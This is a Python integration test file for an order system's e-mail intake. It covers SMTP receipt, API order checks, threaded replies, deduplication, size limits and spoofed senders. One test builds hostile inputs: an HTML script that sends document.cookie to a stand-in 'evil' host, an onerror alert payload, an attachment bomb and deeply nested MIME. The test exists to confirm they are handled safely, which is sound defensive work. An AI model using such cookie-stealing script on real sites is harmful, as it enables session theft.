"""The e-mail channel end to end: SMTP in, orders out through the API, a threaded reply through SMTP."""

from __future__ import annotations

import email
import smtplib
from collections.abc import Iterator
from email import policy
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from core.capture.domain.documents import DocumentState
from core.kernel.domain.model import OutboundKind, OutboundMessage, OutboundState
from ingest.maildir import MaildirWatcher
from ingest.smtp import SmtpReceiver
from oms.bootstrap import App
from outbound.email.channel import mail_sender
from tests.conftest import make_user
from tests.integration.helpers import all_orders, answers_of, document, drain, orders_of
from tests.integration.mail_support import Capture, mail_app
from tests.unit.parsers.email_support import message
from tests.waiting import wait_until
from web.app import create_app

pytestmark = pytest.mark.integration
CUSTOMER = "pedidos@ferreterianunez.es"


@pytest.fixture
def app(tmp_path: Path, mailhost: tuple[int, Capture]) -> Iterator[App]:
    application = mail_app(tmp_path, mailhost[0], max_document_mb=2)
    yield application
    application.close()


@pytest.fixture
def receiver(app: App) -> Iterator[SmtpReceiver]:
    smtp = SmtpReceiver("127.0.0.1", app.settings.smtp_port, app.submit, app.clock, 2 * 2**20)
    smtp.start()
    yield smtp
    smtp.stop()


def send(port: int, raw: bytes, sender: str = CUSTOMER) -> tuple[int, bytes]:
    with smtplib.SMTP("127.0.0.1", port, timeout=30) as smtp:
        smtp.ehlo()
        code, reply = smtp.mail(sender, [f"size={len(raw)}"] if smtp.has_extn("size") else [])
        if code != 250:
            return code, reply
        smtp.rcpt("pedidos@comanda.example")
        return smtp.data(raw)


BODY = (
    "Hola,\n\n* 10 x TOR-M8-40\n* Ref. 4712: 200 uds\n* 3 cajas de TAC-6\n\n"
    "Entrega: 03/12/2026\n\nUn saludo,\nAna\n"
)


def test_smtp_conversation_to_an_order_in_the_api_and_a_threaded_reply(
    app: App, receiver: SmtpReceiver, mailhost: tuple[int, Capture]
) -> None:
    raw = message(BODY, subject="Pedido PO-2026-0042 – ñandú").as_bytes()
    code, reply = send(receiver.port, raw)
    assert code == 250 and b"Stored as document" in reply
    doc_id = int(reply.split()[-1])
    drain(app)

    client = TestClient(create_app(app), headers={"Authorization": f"Bearer {make_user(app)}"})
    (listed,) = client.get("/api/orders").json()["items"]
    order = client.get(f"/api/orders/{listed['id']}").json()
    assert order["state"] == "accepted" and order["customer_id"] == "C-1001"  # identified by the sender
    assert order["po_number"] == "PO-2026-0042" and order["requested_delivery_date"] == "2026-12-03"
    assert [(ln["sku"], ln["quantity"]) for ln in order["lines"]] == [
        ("TOR-M8-40", "10"),
        ("TUE-M8", "200"),
        ("TAC-6", "3"),
    ]
    doc = client.get(f"/api/documents/{doc_id}").json()
    assert doc["channel"] == "email" and doc["format"] == "email-text" and doc["state"] == "processed"
    assert doc["sender"] == CUSTOMER and doc["external_id"] == "<m1@ferreterianunez.es>"
    assert client.get(f"/api/documents/{doc_id}/raw").content == raw  # stored whole

    _, capture = mailhost
    (sent,) = capture.messages
    assert sent.rcpt_tos == [CUSTOMER] and sent.mail_from == "pedidos@comanda.example"
    answer = email.message_from_bytes(sent.content, policy=policy.default)
    assert (
        answer["In-Reply-To"] == "<m1@ferreterianunez.es>"
        and answer["Subject"] == "Re: Pedido PO-2026-0042 – ñandú"
    )
    assert "Hemos recibido y aceptado su pedido PO-2026-0042" in answer.get_body(("plain",)).get_content()
    assert [a.get_content_type() for a in answer.iter_attachments()] == ["application/pdf"]

    # delivering the same outbox row again sends nothing more
    (outbox,) = answers_of(app, doc_id)
    assert outbox.state == OutboundState.SENT
    mail_sender(app.settings).send(outbox)
    with app.uow() as uow:
        (row,) = uow.outbound.for_document(doc_id)
        row.state = OutboundState.PENDING
        uow.commit()
    assert app.deliver(doc_id) == 1  # the row is marked sent again ...
    assert len(capture.messages) == 1  # ... but no second e-mail went out


def test_the_same_email_twice_makes_one_order(app: App, receiver: SmtpReceiver) -> None:
    raw = message(BODY).as_bytes()
    relayed = b"Received: from relay.example by mx.example; Thu, 26 Nov 2026 10:01:00 +0100\r\n" + raw
    ids = [int(send(receiver.port, content)[1].split()[-1]) for content in (raw, raw, relayed)]
    drain(app)
    states = [document(app, i).state for i in ids]
    assert states == [DocumentState.PROCESSED, DocumentState.DUPLICATE, DocumentState.DUPLICATE]
    assert document(app, ids[2]).duplicate_of == ids[0]
    assert "the same message" in str(document(app, ids[2]).problems)
    assert len(all_orders(app)) == 1


def test_oversize_is_refused_at_smtp_level_and_nothing_is_stored(app: App, receiver: SmtpReceiver) -> None:
    huge = message("x").as_bytes() + b"x" * (100 * 2**20)  # 100 MB, declared with SIZE
    code, _ = send(receiver.port, huge)
    assert code == 552
    with smtplib.SMTP("127.0.0.1", receiver.port, timeout=30) as smtp:  # not declared: refused after DATA
        smtp.ehlo()
        smtp.mail(CUSTOMER)
        smtp.rcpt("pedidos@comanda.example")
        code, _ = smtp.data(message("x").as_bytes() + (b"y" * 76 + b"\r\n") * 40_000)
    assert code == 552
    with app.uow() as uow:
        assert uow.documents.list() == []


def test_spoofed_sender_for_a_known_customer_goes_to_review_unanswered(
    app: App, receiver: SmtpReceiver, mailhost: tuple[int, Capture]
) -> None:
    _, reply = send(receiver.port, message(BODY).as_bytes(), sender="mailer@spoofer.example")
    drain(app)
    (order,) = orders_of(app, int(reply.split()[-1]))
    assert order.decision == "review" and "sender_mismatch" in {p["code"] for p in order.problems}
    assert mailhost[1].messages == []


def test_unknown_sender_goes_to_review_and_a_colleague_at_the_domain_is_known(
    app: App, receiver: SmtpReceiver
) -> None:
    stranger = message(BODY, from_="Luis <luis@desconocidos.es>", message_id="<s1@x>").as_bytes()
    colleague = message(BODY, from_="José <jose@ferreterianunez.es>", message_id="<s2@x>").as_bytes()
    first = int(send(receiver.port, stranger, sender="luis@desconocidos.es")[1].split()[-1])
    second = int(send(receiver.port, colleague, sender="jose@ferreterianunez.es")[1].split()[-1])
    drain(app)
    (unknown,) = orders_of(app, first)
    assert unknown.decision == "review" and unknown.customer_id is None
    assert "unknown_customer" in {p["code"] for p in unknown.problems}
    (known,) = orders_of(app, second)
    assert known.customer_id == "C-1001" and known.decision == "accept"


def test_bad_input_is_stored_with_clear_errors_and_nothing_is_lost(app: App, receiver: SmtpReceiver) -> None:
    def nested(depth: int) -> bytes:
        head = (
            b"From: pedidos@ferreterianunez.es\r\nSubject: x\r\nMessage-ID: <deep@x>\r\nMIME-Version: 1.0\r\n"
        )
        opening = b"".join(
            b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (i, i) for i in range(depth)
        )
        return head + opening + b"Content-Type: text/plain\r\n\r\n3 x TUE-M8\r\n"

    bomb = message(BODY, message_id="<bomb@x>")
    for i in range(1500):
        bomb.add_attachment(
            b"%PDF-1.4 " + bytes([i % 251]) * 600, maintype="application", subtype="pdf", filename=f"{i}.pdf"
        )
    broken = (
        b"From: pedidos@ferreterianunez.es\r\nSubject: roto\r\nMessage-ID: <broken@x>\r\n"
        b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="Q"\r\n\r\n'
        b"--Q\r\nContent-Transfer-Encoding: base64\r\n\r\n%%%%\r\n"
    )
    script = message(
        None,
        html="<p>5 x ARA-M8</p><script>fetch('http://evil/'+document.cookie)</script>"
        "<img src=x onerror=alert(1)>",
        message_id="<script@x>",
    )
    sent = [bomb.as_bytes(), nested(2000), broken, script.as_bytes()]
    ids = [int(send(receiver.port, raw)[1].split()[-1]) for raw in sent]
    drain(app)
    bomb_doc, deep_doc, broken_doc, script_doc = (document(app, i) for i in ids)
    assert bomb_doc.state == DocumentState.PROCESSED
    (bomb_order,) = orders_of(app, ids[0])
    assert bomb_order.decision == "review"  # attachments beyond the caps were not read: a person looks
    assert deep_doc.state == DocumentState.QUARANTINED and "too deeply" in (deep_doc.error or "")
    assert broken_doc.state == DocumentState.QUARANTINED and "no order found" in (broken_doc.error or "")
    assert script_doc.state == DocumentState.PROCESSED
    (script_order,) = orders_of(app, ids[3])
    assert [(ln.sku, str(ln.quantity)) for ln in script_order.lines] == [("ARA-M8", "5")]
    hashes = [d.sha256 for d in (bomb_doc, deep_doc, broken_doc, script_doc)]
    with app.uow() as uow:  # every byte kept
        assert [uow.blobs.get(h) for h in hashes] == sent


def test_maildir_new_messages_are_stored_moved_to_cur_and_oversize_is_quarantined(
    app: App, tmp_path: Path
) -> None:
    root = tmp_path / "Maildir"
    watcher = MaildirWatcher(root, app.submit, app.clock, poll=0.05)
    watcher.start()
    try:
        (root / "tmp" / "1.host").write_bytes(message(BODY, message_id="<md1@x>").as_bytes())
        (root / "tmp" / "1.host").rename(root / "new" / "1.host")
        big = message(BODY, message_id="<md2@x>").as_bytes() + (b"z" * 76 + b"\r\n") * 40_000
        (root / "tmp" / "2.host").write_bytes(big)  # larger than OMS_MAX_DOCUMENT_MB (2 MB here)
        (root / "tmp" / "2.host").rename(root / "new" / "2.host")  # delivered as Maildir delivers
        wait_until(lambda: not any((root / "new").iterdir()), "both messages taken from new/", 10)
    finally:
        watcher.stop()
    assert sorted(p.name for p in (root / "cur").iterdir()) == ["1.host:2,S", "2.host:2,S"]
    drain(app)
    with app.uow() as uow:
        docs = sorted(uow.documents.list(), key=lambda d: d.id or 0)
    assert [(d.external_id, d.state) for d in docs] == [
        ("<md1@x>", DocumentState.PROCESSED),
        ("<md2@x>", DocumentState.QUARANTINED),
    ]
    assert "OMS_MAX_DOCUMENT_MB" in (docs[1].error or "")
    assert docs[0].sender == CUSTOMER  # no Return-Path: From stands in


def test_a_notice_rendered_without_from_or_date_gets_them_and_goes_once(
    app: App, mailhost: tuple[int, Capture]
) -> None:
    notice = OutboundMessage(
        channel="email",
        kind=OutboundKind.NOTICE,
        recipient="compras@bricogalicia.es",
        filename="NOTICE_1.eml",
        content=(
            "To: compras@bricogalicia.es\r\nSubject: Enviado\r\nMessage-ID: <n1@comanda>\r\n\r\n"
            "Su pedido salió.\r\n"
        ).encode(),
        created_at=app.clock(),
    )
    sender = mail_sender(app.settings)
    sender.send(notice)
    sender.send(notice)
    (sent,) = mailhost[1].messages
    got = email.message_from_bytes(sent.content, policy=policy.default)
    assert got["From"] == "pedidos@comanda.example" and got["Date"] and got["Message-ID"] == "<n1@comanda>"
